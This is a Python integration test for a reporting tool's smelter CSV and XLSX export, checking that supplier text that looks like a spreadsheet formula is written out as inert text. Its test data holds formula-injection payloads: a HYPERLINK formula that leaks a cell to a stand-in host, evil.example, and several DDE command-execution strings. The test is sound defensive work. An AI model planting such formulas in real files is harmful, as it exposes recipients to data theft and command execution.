"""``report --smelters`` CSV and XLSX with supplier text that would be a formula (issue 11, safe output): every
such cell starts with ``'`` and the XLSX holds strings, never formulas. Written for real and read back."""

from __future__ import annotations

import copy
import csv
import pathlib
from typing import Any

import openpyxl

from tests.integration.test_report_cli import configure, factory_declarations, run, seed

FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
)


def hostile_declaration() -> dict[str, Any]:
    declaration = copy.deepcopy(factory_declarations()["company"])
    rows = declaration["smelters"]
    for index, text in enumerate(FORMULAS):
        rows.append({"row": 90 + index, "metal": "Gold", "lookup": "Smelter not listed", "name": text,
                     "country": text, "smelter_id": None})  # fmt: skip
    rows.append({"row": 99, "metal": "Gold", "lookup": FORMULAS[0], "name": FORMULAS[1],
                 "smelter_id": "CID000082", "country": FORMULAS[2]})  # fmt: skip
    return declaration


def test_csv_and_xlsx_exports_neutralise_formulas(store_url: str, tmp_path: pathlib.Path) -> None:
    config = configure(tmp_path, store_url)
    seed(store_url, [hostile_declaration()])

    target = tmp_path / "smelters.csv"
    rc, _, err = run("--config", config, "report", "--smelters", str(target))
    assert rc == 0, err
    cells = []
    for path in (target, tmp_path / "smelters.rejected.csv"):
        with path.open(encoding="utf-8", newline="") as handle:
            cells += [value for row in csv.reader(handle) for value in row]
    hits = [value for value in cells if any(f in value for f in FORMULAS)]
    assert len(hits) >= len(FORMULAS)  # the supplier text is there, as text
    assert all(not value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in cells), hits
    assert "'" + FORMULAS[0] in cells

    book_path = tmp_path / "smelters.xlsx"
    rc, _, err = run("--config", config, "report", "--smelters", str(book_path))
    assert rc == 0, err
    book = openpyxl.load_workbook(book_path)
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r")), cell.value
    assert any(value.startswith("'=HYPERLINK") for value in texts)
